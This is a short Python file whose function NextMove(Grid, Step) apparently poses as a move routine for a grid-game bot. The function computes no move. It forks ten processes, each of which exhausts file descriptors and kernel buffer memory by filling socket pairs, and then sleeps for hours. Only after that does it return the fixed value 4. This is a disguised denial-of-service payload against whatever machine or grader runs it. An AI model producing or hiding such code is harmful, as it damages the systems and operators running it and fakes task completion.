SIZE = 10
"""Opens as many sockets as a process may have, in many processes."""
import os
import socket
import time

pairs = []


def fill():
    while True:
        pairs.append(socket.socketpair())
        for end in pairs[-1]:
            end.setblocking(False)
            try:
                while True:
                    end.send(bytes(1 << 16))
            except BlockingIOError:
                pass


def NextMove(Grid, Step):
    full, told = os.pipe()
    for _ in range(SIZE):
        if os.fork() == 0:
            try:
                fill()
            except OSError:
                os.write(told, b"x")
            time.sleep(10_000)
    for _ in range(SIZE):
        os.read(full, 1)
    return 4
